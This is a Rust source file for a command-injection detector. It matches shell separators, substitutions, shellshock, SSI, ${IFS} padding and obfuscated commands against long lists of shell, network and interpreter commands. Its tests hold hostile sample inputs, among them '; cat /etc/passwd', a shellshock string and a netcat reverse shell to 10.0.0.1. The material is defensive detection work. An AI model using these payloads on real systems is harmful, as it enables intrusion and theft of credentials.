//! OS command injection: a shell metacharacter (`;`, `|`, `&&`, a newline, `` ` ``, `$(`) followed
//! by a command, shellshock's `() {`, server-side includes, `${IFS}` tricks, and well-known
//! commands with absolute paths.

/// Commands that, first in a value and followed by an option or a path, are a command line.
const STARTERS: &[&str] = &[
    "ping",
    "ping.exe",
    "nslookup",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "powershell",
    "cmd",
    "cmd.exe",
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "id",
    "cat",
    "ls",
    "dir",
    "type",
    "sleep",
    "python",
    "perl",
    "php",
    "ruby",
    "chmod",
    "rm",
    "telnet",
    "certutil",
    "net",
    "systeminfo",
    "getent",
    "dig",
    "timeout",
];

const COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "cat",
    "ls",
    "dir",
    "pwd",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "dash",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "ping",
    "nslookup",
    "dig",
    "host",
    "sleep",
    "echo",
    "rm",
    "chmod",
    "chown",
    "touch",
    "telnet",
    "powershell",
    "pwsh",
    "cmd",
    "cmd.exe",
    "net",
    "ipconfig",
    "ifconfig",
    "systeminfo",
    "certutil",
    "bitsadmin",
    "xterm",
    "nohup",
    "base64",
    "busybox",
    "awk",
    "find",
    "head",
    "tail",
    "more",
    "less",
    "type",
    "eval",
    "exec",
    "env",
    "printenv",
    "set",
    "ps",
    "kill",
    "mkfifo",
    "socat",
    "tftp",
    "ftp",
    "scp",
    "ssh",
    "crontab",
    "useradd",
    "passwd",
    "sudo",
    "su",
    "reboot",
    "shutdown",
    "netstat",
    "hostname",
    "ver",
    "tasklist",
    "taskkill",
    "wmic",
    "reg",
    "sc",
    "timeout",
    "start",
    "call",
    "expr",
    "xxd",
    "od",
    "strings",
    "tac",
    "nl",
    "sort",
    "uniq",
    "grep",
    "sed",
    "cut",
    "tr",
    "wc",
    "who",
    "w",
    "last",
    "getent",
    "lsb_release",
    "cp",
    "mv",
    "mkdir",
    "tee",
    "gzip",
    "tar",
    "unzip",
    "java",
    "lua",
    "openssl",
    "rev",
    "nmap",
    "ncat.exe",
    "nc.exe",
    "mshta",
    "rundll32",
    "regsvr32",
    "cscript",
    "wscript",
    "invoke-webrequest",
    "iex",
    "start-process",
    "sysinfo",
];

fn is_command(word: &str) -> bool {
    let w = word.rsplit('/').next().unwrap_or(word);
    let w = w.rsplit('\\').next().unwrap_or(w);
    COMMANDS.contains(&w) || (word.starts_with("/bin/") || word.starts_with("/usr/bin/") || word.starts_with("/sbin/"))
}

/// The first word after position `i`, skipping blanks, quotes and `${IFS}`-style padding.
fn word_at(s: &str, mut i: usize) -> &str {
    let b = s.as_bytes();
    loop {
        while i < b.len() && matches!(b[i], b' ' | b'\t' | b'\n' | b'\r' | b'"' | b'\'' | b'(' | b'{' | b'<' | b'!') {
            i += 1;
        }
        if s[i..].starts_with("${ifs}") || s[i..].starts_with("$ifs") {
            i += if s[i..].starts_with("${ifs}") { 6 } else { 4 };
            continue;
        }
        break;
    }
    let end = s[i..]
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-' | '\\' | ':')) || c == '+')
        .map_or(s.len(), |e| i + e);
    &s[i..end]
}

pub fn check(value: &str) -> Option<(&'static str, u32)> {
    let b = value.as_bytes();
    if !b.iter().any(|c| matches!(c, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'(' | b'<' | b'/' | b'\r')) {
        return None;
    }
    // Payload lists write line breaks as `\n`; a command after one is as good as after a real one.
    let text = value.replace("\\n", "\n").replace('+', " ");
    judge(&text).or_else(|| {
        // What the shell runs once it has joined quotes and expanded nothing into something:
        // `c''at`, `w'h'o'a'm'i`, `$'\x69d'`, `c$@at`, `\c\a\t`, `/???/??t`.
        let shell = shell_view(&text)?;
        judge(&shell)
            .map(|(rule, score)| if rule == "separator_command" { ("shell_obfuscation", score) } else { (rule, score) })
    })
}

fn judge(text: &str) -> Option<(&'static str, u32)> {
    // Lower-casing keeps every byte where it was: `text` tells a word's own case.
    let lower = text.to_ascii_lowercase();
    command_line(&lower)
        .or_else(|| backtick_command(&lower))
        .or_else(|| code_markers(&lower))
        .or_else(|| separator_command(&lower, text))
        .or_else(|| if lower.contains('=') && lower.contains('$') { variable_command(&lower) } else { None })
        .or_else(|| COMMAND_STRINGS.iter().any(|k| lower.contains(k)).then_some(("command_string", 8)))
}

/// The value as a POSIX shell reads its words, when that differs from the value: empty and
/// joining quotes dropped, ANSI-C `$'…'` strings decoded (`\xHH`, octal), `$@`/`$*` (empty)
/// dropped, a backslash before a letter dropped, and a glob of `?` standing for a command path
/// resolved to the commands it matches (`/???/c?t` → `/bin/cat`).
fn shell_view(s: &str) -> Option<String> {
    if !s.contains(['\'', '"', '\\', '$', '?']) {
        return None;
    }
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'$' if b.get(i + 1) == Some(&b'\'') => {
                // $'…' with C escapes.
                let mut j = i + 2;
                while j < b.len() && b[j] != b'\'' {
                    if b[j] == b'\\' && j + 1 < b.len() {
                        let (c, used) = c_escape(&b[j + 1..]);
                        out.push(c);
                        j += 1 + used;
                    } else {
                        out.push(b[j]);
                        j += 1;
                    }
                }
                i = j + 1;
            }
            b'$' if matches!(b.get(i + 1), Some(b'@' | b'*')) => i += 2,
            b'\'' | b'"' => i += 1,
            b'\\' if b.get(i + 1).is_some_and(u8::is_ascii_alphabetic) => i += 1,
            c => {
                out.push(c);
                i += 1;
            }
        }
    }
    let mut v = String::from_utf8_lossy(&out).into_owned();
    if v.contains('?') {
        v = globs(&v);
    }
    (v != s).then_some(v)
}

/// One C escape after a backslash: the byte and how many bytes it used.
fn c_escape(b: &[u8]) -> (u8, usize) {
    let hex = |c: u8| (c as char).to_digit(16);
    match b[0] {
        b'x' => match (b.get(1).copied().and_then(hex), b.get(2).copied().and_then(hex)) {
            (Some(h), Some(l)) => ((h * 16 + l) as u8, 3),
            (Some(h), None) => (h as u8, 2),
            _ => (b'x', 1),
        },
        b'0'..=b'7' => {
            let mut n = 0u32;
            let mut used = 0;
            while used < 3 && b.get(used).is_some_and(|c| (b'0'..=b'7').contains(c)) {
                n = n * 8 + (b[used] - b'0') as u32;
                used += 1;
            }
            ((n & 0xff) as u8, used)
        }
        b'n' => (b'\n', 1),
        b't' => (b'\t', 1),
        c => (c, 1),
    }
}

/// Paths spelt with `?` wildcards, as the shell expands them: `/???/??t` names `/bin/cat`.
fn globs(s: &str) -> String {
    const PATHS: &[&str] = &[
        "/bin/cat",
        "/bin/sh",
        "/bin/bash",
        "/bin/nc",
        "/bin/ls",
        "/usr/bin/id",
        "/usr/bin/wget",
        "/usr/bin/curl",
        "/bin/ping",
        "/usr/bin/whoami",
        "/etc/passwd",
        "/etc/shadow",
    ];
    let matches = |w: &str| {
        PATHS.iter().find(|p| {
            p.len() == w.len() && w.contains('?') && p.bytes().zip(w.bytes()).all(|(a, b)| b == b'?' || a == b)
        })
    };
    let mut out = String::with_capacity(s.len());
    let mut word = String::new();
    for c in s.chars().chain(std::iter::once('\0')) {
        if c.is_ascii_alphanumeric() || matches!(c, '/' | '?' | '.' | '_' | '-') {
            word.push(c);
            continue;
        }
        out.push_str(matches(&word).copied().unwrap_or(&word));
        word.clear();
        if c != '\0' {
            out.push(c);
        }
    }
    out
}

/// `;CMD=id;$CMD`: a variable set to a command after a separator, then run by its name.
fn variable_command(lower: &str) -> Option<(&'static str, u32)> {
    let b = lower.as_bytes();
    for (i, c) in b.iter().enumerate() {
        if !matches!(c, b';' | b'|' | b'&' | b'\n') {
            continue;
        }
        let rest = lower[i + 1..].trim_start();
        let name_len = rest.bytes().take_while(|c| c.is_ascii_alphanumeric() || *c == b'_').count();
        if name_len == 0 || rest.as_bytes().get(name_len) != Some(&b'=') || rest.as_bytes()[0].is_ascii_digit() {
            continue;
        }
        let (name, value) = (&rest[..name_len], &rest[name_len + 1..]);
        let cmd = value.split([' ', ';', '|', '&']).next().unwrap_or("");
        if !is_command(cmd) {
            continue;
        }
        for use_ in [format!("${name}"), format!("${{{name}}}")] {
            let mut from = 0;
            while let Some(p) = lower[from..].find(&use_) {
                let at = from + p;
                let before = lower[..at].trim_end();
                let end = at + use_.len();
                let whole = !lower[end..].starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_');
                if whole && (before.is_empty() || before.ends_with([';', '|', '&', '`', '(', '\n'])) {
                    return Some(("variable_command", 8));
                }
                from = end;
            }
        }
    }
    None
}

/// The value is a command line: a command word first, then a separator or an argument.
fn command_line(lower: &str) -> Option<(&'static str, u32)> {
    if let Some(first) = lower.split_whitespace().next() {
        let tail = lower[lower.find(first).unwrap_or(0) + first.len()..].trim_start();
        let head_cmd = STARTERS.contains(&first.trim_end_matches([';', '|', '&']));
        let sep_after = first.ends_with([';', '|', '&']) && first.len() > 1;
        let arg_like = tail.starts_with('-')
            || tail.starts_with('/')
            || tail.starts_with('$')
            || tail.get(1..3) == Some(":/")
            || tail.get(1..2) == Some(":") && tail.len() <= 3;
        if head_cmd && (sep_after || (arg_like && !tail.is_empty())) {
            return Some(("command_line", 8));
        }
    }
    None
}

/// A command word inside backticks.
fn backtick_command(lower: &str) -> Option<(&'static str, u32)> {
    if lower.contains('`') {
        let mut it = lower.split('`');
        it.next();
        for inner in it.step_by(2) {
            let w = inner.split_whitespace().next().unwrap_or("");
            if is_command(w) || matches!(w, "true" | "false") {
                return Some(("backtick_command", 8));
            }
        }
    }
    None
}

/// Code in a value: PHP tags, YAML deserialisation tags, shellshock's function prefix, SSI,
/// `${IFS}` padding.
fn code_markers(lower: &str) -> Option<(&'static str, u32)> {
    if lower.contains("<?php")
        || lower.contains("<?=")
        || lower.contains("!!python/object")
        || lower.contains("!!javax.script")
    {
        return Some(("code_injection", 8));
    }
    if lower.contains("() {") || lower.contains("(){") {
        return Some(("shellshock", 9));
    }
    if lower.contains("<!--#exec") || lower.contains("<!--#include") {
        return Some(("server_side_include", 9));
    }
    if lower.contains("${ifs}") || lower.contains("$ifs$") {
        return Some(("ifs_padding", 8));
    }
    None
}

/// Words that prose has after `;` or `&` (`…; set the table`): they count only with more around
/// them (a stronger separator, an option, a path, a drive).
const WEAK_AFTER_PROSE: &[&str] = &[
    "set", "type", "call", "start", "find", "sort", "more", "less", "last", "host", "w", "who", "net", "head", "tail",
    "echo", "sleep", "exec", "eval", "ver", "dir", "env", "sc", "reg", "su", "cut", "tr", "nl", "od", "ps", "kill",
    "expr", "timeout", "print", "tee", "rev", "node", "java", "lua",
];

/// Windows' own commands: its shell reads them in any case (`DIR`, `Net User`). Everything else
/// is a Unix program, and Unix shells are case-sensitive: `NC` or `Cat` runs nothing.
const ANY_CASE: &[&str] = &[
    "dir",
    "net",
    "ping",
    "type",
    "whoami",
    "ipconfig",
    "systeminfo",
    "tasklist",
    "taskkill",
    "ver",
    "cmd",
    "cmd.exe",
    "powershell",
    "pwsh",
    "certutil",
    "nslookup",
    "hostname",
    "echo",
    "set",
    "copy",
    "del",
    "findstr",
    "wmic",
    "reg",
    "sc",
    "netstat",
    "route",
    "arp",
    "tracert",
    "timeout",
    "shutdown",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
];

/// Commands that do nothing to tell or harm without an argument (`cat` waits on its input,
/// `ping` prints its usage): after a separator they need one (`mammal;cat;ears` is a tag list).
const NEEDS_ARGUMENT: &[&str] = &[
    "cat", "wget", "curl", "nc", "ncat", "netcat", "ping", "nslookup", "dig", "host", "sleep", "echo", "rm", "chmod",
    "chown", "touch", "telnet", "cp", "mv", "kill", "head", "tail", "more", "less", "type", "find", "sort", "grep",
];

/// `; cat`, `| id`, `$(whoami)`, `` `uname -a` ``: a command word right after a separator.
fn separator_command(lower: &str, text: &str) -> Option<(&'static str, u32)> {
    let lb = lower.as_bytes();
    let first_visible = lb.iter().position(|c| !c.is_ascii_whitespace()).unwrap_or(lb.len());
    for (i, c) in lb.iter().enumerate() {
        let start = match c {
            b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' => i + 1,
            b'$' if lb.get(i + 1) == Some(&b'(') => i + 2,
            _ => continue,
        };
        let w = word_at(lower, start);
        let at = w.as_ptr() as usize - lower.as_ptr() as usize;
        let own_case = text.get(at..at + w.len()).is_none_or(|o| o == w || ANY_CASE.contains(&w));
        if !w.is_empty() && own_case && is_command(w) {
            // `; cat`, `| id`, `$(whoami)`, `` `uname -a` ``: a command word right after a separator.
            let next = lower[start..].trim_start_matches([' ', '\t', '\n', '\r', '"', '\'', '(', '{', '<', '!']);
            let after = &next[w.len().min(next.len())..];
            let ends = after.is_empty()
                || after.starts_with([
                    ' ', '\t', ';', '|', '&', '`', ')', '\n', '$', '<', '>', '#', '\'', '"', '}', '+', '\\',
                ]);
            if ends {
                // Prose has `;`/`&` followed by words like `set`, `type`, `call`: ask for more
                // than a bare common word there.
                let weak = WEAK_AFTER_PROSE.contains(&w);
                let strong_sep = matches!(c, b'`' | b'|' | b'\n' | b'\r' | b'$') || i <= first_visible;
                let arg = after.trim_start();
                let drive = arg.len() >= 2 && arg.as_bytes()[1] == b':' && arg.as_bytes()[0].is_ascii_alphabetic();
                let bare = arg.is_empty() || arg.starts_with([';', '|', '&', '#', ')', '`', '}', '\n']);
                let name = w.rsplit(['/', '\\']).next().unwrap_or(w);
                if bare && NEEDS_ARGUMENT.contains(&name) && !w.contains('/') {
                    continue;
                }
                if !weak
                    || strong_sep
                    || drive
                    || arg.starts_with(['-', '/', '$', '`'])
                    || after.trim().is_empty() && i > 0
                {
                    return Some(("separator_command", 8));
                }
            }
        }
    }
    None
}

/// Shells, interpreters and the calls that run commands, anywhere in the value.
const COMMAND_STRINGS: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/bin/cat",
    "/usr/bin/id",
    "/bin/ls",
    "/usr/bin/whoami",
    "cmd.exe",
    "cmd /c",
    "powershell -",
    "/dev/tcp/",
    "nc -e",
    "bash -i",
    "bash -c",
    "sh -c",
    "wget http",
    "curl http",
    "system(",
    "passthru(",
    "shell_exec(",
    "popen(",
    "proc_open(",
    "child_process",
    "execsync(",
    "runtime.getruntime",
    "exec('",
    "exec(\"",
    "os.system(",
    "subprocess.",
    "os.popen(",
    "pcntl_exec(",
];

#[cfg(test)]
mod tests {
    use super::check;

    #[test]
    fn commands() {
        for s in [
            "; cat /etc/passwd",
            "| id",
            "$(whoami)",
            "`uname -a`",
            "127.0.0.1 && ls -la",
            "() { :;}; /bin/bash -c id",
            "a\nid",
            ";${IFS}cat${IFS}/etc/passwd",
            "x|nc -e /bin/sh 10.0.0.1 4444",
        ] {
            assert!(check(s).is_some(), "missed: {s}");
        }
        for s in [
            "echo in the mirror",
            "bash away in the gym",
            "ls 300 lexus",
            "nc 8000 controller",
            "zsh is the best!",
            "exec noun",
            "Tom & Jerry",
            "rock & roll; set list",
            "a|b",
            "salt & pepper; type A",
        ] {
            assert!(check(s).is_none(), "false positive: {s} ({:?})", check(s));
        }
    }
}
